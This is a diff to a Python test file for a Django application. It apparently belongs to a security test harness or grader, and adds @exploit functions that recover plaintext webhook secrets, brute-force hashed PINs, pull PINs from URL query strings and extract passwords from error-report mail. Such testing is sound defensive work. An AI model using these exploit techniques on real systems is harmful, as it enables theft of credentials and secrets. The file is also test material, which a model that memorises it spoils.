@@ -8,20 +8,23 @@ import random
 import re
 import socket
 import time
-from urllib.parse import urlsplit
+from unittest import mock
+from urllib.parse import urlencode, urlsplit
 
 import jwt
 import sha1
 from accounts.hashers import check_pin
 from accounts.models import User
+from accounts.tokens import signup_token
 from billing.models import Invoice
 from core import crypto
 from django.conf import settings
 from django.core import mail
 from django.core.management import call_command
-from django.db import connection
+from django.db import OperationalError, connection
 from django.test import override_settings
 from django.urls import resolve
+from django.views.debug import ExceptionReporter
 from hooks.models import Webhook
 from orgs.models import Invitation, Organisation
 from rest_framework_simplejwt.tokens import AccessToken
@@ -78,7 +81,16 @@ def card_number(site):
     return stolen("4111 1111 1111 1111")
 
 
-@exploit("plaintext-sensitive-field", "hooks/models.py")
+@exploit("plaintext-sensitive-field", "hooks/models.py", "secret =")
+def kept_hook_secret(site):
+    """What letters from partners are signed with, in a copy of the database."""
+    site.post("hooks:create", {"url": "https://93.184.215.14/", "secret": "between us", "active": "on"})
+    hook = Webhook.objects.filter(url="https://93.184.215.14/").first()
+    site.honest(hook and hook.secret, "a webhook is made, with a secret")
+    return stolen(hook.secret)
+
+
+@exploit("plaintext-sensitive-field", "hooks/models.py", "api_key")
 def api_key(site):
     """The keys by which partners' systems let the site in, in a copy of the database."""
     words = {"url": "https://93.184.215.14/", "secret": "between us", "api_key": "key of a partner", "active": "on"}
@@ -135,14 +147,20 @@ def longer_letter(site):
     return ""
 
 
-@exploit("homemade-password-hash", "accounts/hashers.py", "hash_pin")
-def telephone_pin(site):
-    """Everybody's PIN, out of a copy of the database: all that there are, are tried in a moment."""
+def ask_for_pin(site):
+    """A PIN that the owner has, and a question of the support about it."""
     pin = next(pin for pin in ("4711", "004711") if site.profile(pin=pin))
     words = {"email": OWNER, "pin": pin}
     # In the query and in the body: one site reads the one, one the other.
     answer = site.post("accounts:support", words, query=words, person=STAFF)
     site.honest(answer.json()["match"], "the support is told that a PIN is right")
+    return pin, words
+
+
+@exploit("homemade-password-hash", "accounts/hashers.py", "hash_pin")
+def telephone_pin(site):
+    """Everybody's PIN, out of a copy of the database: all that there are, are tried in a moment."""
+    pin, _ = ask_for_pin(site)
     kept, until = User.objects.get(email=OWNER).phone_pin, time.process_time() + 2
     for number in range(10_000):
         guess = f"{number:0{len(pin)}}"
@@ -213,6 +231,47 @@ def hook_secret(site):
         site.post("hooks:test", args=[hook.pk])
     site.honest(hook.deliveries.count() == 1, "a test makes a delivery")
     return line(".*between us")
+
+
+@exploit("secret-in-url", "accounts/views.py", "support_check")
+def pin_in_address(site):
+    """Everybody's PIN that the support was told, in the history of a browser and the logs of every server."""
+    _, words = ask_for_pin(site)
+    answer = site.post("accounts:support", query=words, person=STAFF)
+    return urlencode(words) if answer.json()["match"] else ""
+
+
+def reported(site, method, *args, **kwargs):
+    """The line with the PASSWORD in what the administrators are mailed when `method` of the user fails in a request."""
+    with override_settings(DEBUG=False), mock.patch.object(User, method, side_effect=OperationalError("gone")):
+        answer = site.post(*args, person=None, refusal=500, **kwargs)
+        text = ExceptionReporter(answer.wsgi_request, *answer.exc_info).get_traceback_text()
+    site.honest("OperationalError" in text, "an error is reported")
+    return next((line for line in text.splitlines() if PASSWORD in line), "")
+
+
+@exploit("missing-sensitive-parameters", "accounts/views.py", "login_view")
+def reported_login(site):
+    """A password, in the mail about an error."""
+    give_password(OWNER)
+    site.honest(site.login(OWNER, PASSWORD).status_code == 302, "one logs in with the right password")
+    site.clients.clear()
+    words = {"email": OWNER, "username": OWNER, "password": PASSWORD}
+    return reported(site, "check_password", "accounts:login", words)
+
+
+@exploit("missing-sensitive-parameters", "accounts/views.py", "reset_confirm")
+def reported_reset(site):
+    """A new password, in the mail about an error."""
+    words = {"new_password1": PASSWORD, "new_password2": PASSWORD}
+    return reported(site, "save", "accounts:reset-confirm", words, args=mailed(site))
+
+
+@exploit("missing-sensitive-parameters", "accounts/views.py", "signup_finish")
+def reported_signup(site):
+    """A first password, in the mail about an error."""
+    words = {"display_name": "Nell New", "new_password1": PASSWORD, "new_password2": PASSWORD}
+    return reported(site, "save", "accounts:signup-finish", words, args=[signup_token("new@nowhere.example")])
 
 
 @exploit("exception-shown", "billing/views.py", "quick")
